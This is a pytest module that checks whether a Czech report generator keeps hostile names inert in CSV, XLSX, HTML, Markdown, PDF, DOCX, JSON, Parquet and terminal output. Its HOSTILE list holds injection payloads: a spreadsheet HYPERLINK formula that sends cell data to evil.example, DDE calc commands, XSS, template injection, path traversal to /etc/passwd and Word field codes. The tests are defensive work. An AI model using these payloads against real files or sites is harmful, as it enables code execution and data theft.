"""Names, areas, units and explanations that try to be obeyed are inert in every format that exists.

Every report is made twice, of hostile and of harmless names: what a format does besides showing text must be the same.
A format that is new fails here until it says how its inertness is proved.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections import Counter
from html.parser import HTMLParser
from typing import TYPE_CHECKING

import openpyxl
import polars as pl
import pypdfium2
import pytest
from markdown_it import MarkdownIt
from rich.console import Console
from tests.unit.reporting import builders

from sluzby_eval.findings import Place
from sluzby_eval.reporting import run
from sluzby_eval.reporting.context import areas

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE = (
    '=HYPERLINK("http://evil.example/"&A1,"klik")',
    "+420 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)> {{7*7}} ${7*7}',
    "[odkaz](javascript:alert(1)) ![](http://evil.example/p.png) <b>x</b>",
    "| rozbitá | tabulka\n# nadpis\n---",
    "\x1b[31mčerveně\x1b[0m \x07 \u202eobráceně\u202c \u2066x\u2069",
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    '#eval(read("/etc/passwd")) $x^2$ @ref #link("http://evil.example")',
    "_x000D_ _x0041_ \x00",
    'AUTOTEXT TIME \\@ "HH" { HYPERLINK "http://evil.example" }',
)
EVIL = "evil.example"
REPORTS = (("kraj", "CZ064"), ("poskytovatel", "00000027"))


def context(root, texts):
    """Make the small region with given texts wherever a name can come from data."""

    def of(place):
        return texts[place % len(texts)]

    known = areas(
        [
            ("CZ064", "region", of(0), None),
            ("CZ0645", "district", of(1), "CZ064"),
            ("CZ0644", "district", of(2), "CZ064"),
            ("6210", "orp", of(4), "CZ0645"),
            ("6208", "orp", of(6), "CZ0645"),
            ("6204", "orp", of(8), "CZ0644"),
        ]
    )
    names = {("provider", ico): of(3 + 2 * place) for place, ico in enumerate(builders.PROVIDERS)}
    names |= {("service", made.id): of(place) for place, made in enumerate(builders.SERVICES)}
    found = tuple(
        builders.finding(
            "V401",
            place=Place(file=f"vykaz {of(place)}.xlsx", sheet=of(place + 1), cell="B2"),
            provider="00000027",
            service="1003",
            value=of(place),
            expected="1",
            explanation=of(place) if place % 2 else None,
        )
        for place in range(len(texts))
    )  # fmt: skip
    services = builders.services_frame().with_columns(name=pl.lit(of(5)))
    return builders.context(root, areas=known, names=names, services=services, findings=found)


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> dict[str, dict[str, list[Path]]]:
    """Write both reports in every format: of hostile texts and of harmless ones."""
    harmless = tuple(f"Jméno {place}" for place in range(len(HOSTILE)))
    written: dict[str, dict[str, list[Path]]] = {}
    for name, texts in (("hostile", HOSTILE), ("harmless", harmless)):
        out = tmp_path_factory.mktemp(name)
        of_region = context(out, texts)
        for report, unit in REPORTS:
            for path in run.build(report, of_region, unit=unit, formats=run.formats(), out=out):
                written.setdefault(name, {}).setdefault(path.suffix[1:], []).append(path)
    return written


def both(made, format):
    return list(zip(made["hostile"][format], made["harmless"][format], strict=True))


class Elements(HTMLParser):
    """Counts elements with the names of their attributes, and remembers where links lead."""

    def __init__(self) -> None:
        super().__init__()
        self.found: Counter[tuple[str, tuple[str, ...]]] = Counter()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found[tag, tuple(sorted(name for name, _value in attrs))] += 1
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action")]


def inert_html(hostile, harmless):
    pages = []
    for path in (hostile, harmless):
        page = Elements()
        page.feed(path.read_text(encoding="utf-8"))
        pages.append(page)
    scripts = [sum(count for (tag, _), count in page.found.items() if tag == "script") for page in pages]
    assert scripts[0] == scripts[1]
    names = [{(tag, attributes) for tag, attributes in page.found} for page in pages]
    assert not {
        attribute for _tag, attributes in names[0] for attribute in attributes if attribute.startswith("on")
    }
    assert {tag for tag, _ in names[0]} <= {tag for tag, _ in names[1]}
    assert not any(EVIL in link or link.startswith(("javascript:", "http")) for link in pages[0].links)


def inert_xlsx(hostile, _harmless):
    book = openpyxl.load_workbook(hostile)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                assert cell.hyperlink is None or EVIL not in str(cell.hyperlink.target)
    with zipfile.ZipFile(hostile) as package:
        links = [package.read(name).decode() for name in package.namelist() if name.endswith(".rels")]
        assert not any('TargetMode="External"' in text and EVIL in text for text in links)
        assert not any("externalLink" in name or "vba" in name.lower() for name in package.namelist())


def inert_csv(hostile, _harmless):
    with hostile.open(encoding="utf-8-sig", newline="") as file:
        for row in csv.reader(file, delimiter=";"):
            for cell in row:
                assert cell[:1] not in tuple("=+-@\t\r") or re.fullmatch(r"-?[\d.,e+-]+", cell), cell
                assert not re.search(r"[\x00-\x08\x1b\u202e]", cell)


def inert_json(hostile, _harmless):
    assert isinstance(json.loads(hostile.read_text(encoding="utf-8")), dict)
    assert not re.search(rb"[\x00-\x08\x0b\x1b]", hostile.read_bytes())


def inert_parquet(hostile, harmless):
    frames = [pl.read_parquet(path) for path in (hostile, harmless)]
    assert frames[0].schema == frames[1].schema
    assert frames[0].height == frames[1].height


def inert_md(hostile, _harmless):
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    tokens = parser.parse(hostile.read_text(encoding="utf-8"))
    inner = [token for token in tokens for token in (token, *(token.children or []))]
    targets = [str(token.attrs.get("href") or token.attrs.get("src") or "") for token in inner]
    assert not any(EVIL in target or target.startswith("javascript") for target in targets)
    for token in inner:
        if token.type in ("html_inline", "html_block"):
            assert re.fullmatch(r"\s*</?(a|br|sup|sub)\b[^>]*>\s*", token.content), token.content
            assert not re.search(r"\bon\w+\s*=", token.content)
    assert not re.search(r"[\x00-\x08\x1b\u202e]", hostile.read_text(encoding="utf-8"))


def inert_pdf(hostile, _harmless):
    content = hostile.read_bytes()
    assert not re.search(rb"/(JavaScript|JS|Launch|EmbeddedFile|SubmitForm|GoToR)\b", content)
    with pypdfium2.PdfDocument(content) as document:
        text = " ".join(document[page].get_textpage().get_text_range() for page in range(len(document)))
    assert "root:x:0" not in text
    if "poskytovatel" in hostile.name:
        assert any(re.sub(r"\s", "", name) in re.sub(r"\s", "", text) for name in HOSTILE[9:11])
    assert not re.search(r"[\x1b\u202e]", text)
    assert EVIL.encode() not in b" ".join(re.findall(rb"/URI\s*\(([^)]*)\)", content))


def inert_docx(hostile, harmless):
    counted = []
    for path in (hostile, harmless):
        with zipfile.ZipFile(path) as package:
            whole = "".join(
                package.read(name).decode() for name in package.namelist() if name.endswith((".xml", ".rels"))
            )
        fields = re.findall(r"<w:(fldSimple|instrText)\b", whole)
        counted.append((Counter(fields), whole))
    assert counted[0][0].keys() <= counted[1][0].keys()
    instructions = re.findall(r"<w:instrText[^>]*>([^<]*)", counted[0][1])
    assert not any("evil" in text or 'HYPERLINK "http' in text for text in instructions)
    targets = re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', counted[0][1])
    assert not any(EVIL in target for target in targets)


INERT = {
    "csv": inert_csv,
    "docx": inert_docx,
    "html": inert_html,
    "json": inert_json,
    "md": inert_md,
    "parquet": inert_parquet,
    "pdf": inert_pdf,
    "xlsx": inert_xlsx,
}


@pytest.mark.slow
@pytest.mark.parametrize("format", run.formats())
def test_hostile_texts_are_inert_in_every_format(made, format):
    assert format in INERT, "a new format needs a proof that data cannot steer it"
    for hostile, harmless in both(made, format):
        INERT[format](hostile, harmless)


def test_the_terminal_is_not_steered(tmp_path):
    screen = io.StringIO()
    console = Console(file=screen, width=120, force_terminal=False, color_system=None)
    for report, unit in REPORTS:
        run.render_terminal(run.document(report, context(tmp_path, HOSTILE), unit), console)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", screen.getvalue())


@pytest.mark.slow
def test_names_of_files_are_safe_and_stay_in_their_folder(made):
    for paths in made["hostile"].values():
        for path in paths:
            assert re.fullmatch(r"[a-z0-9_.-]+", path.name)
            assert ".." not in path.name


def test_bidirectional_and_control_characters_do_not_reach_a_reader(tmp_path):
    told = run.document("kraj", context(tmp_path, HOSTILE), "CZ064")
    assert not re.search(r"[\x00-\x08\x1b\u202a-\u202e\u2066-\u2069]", told.title)
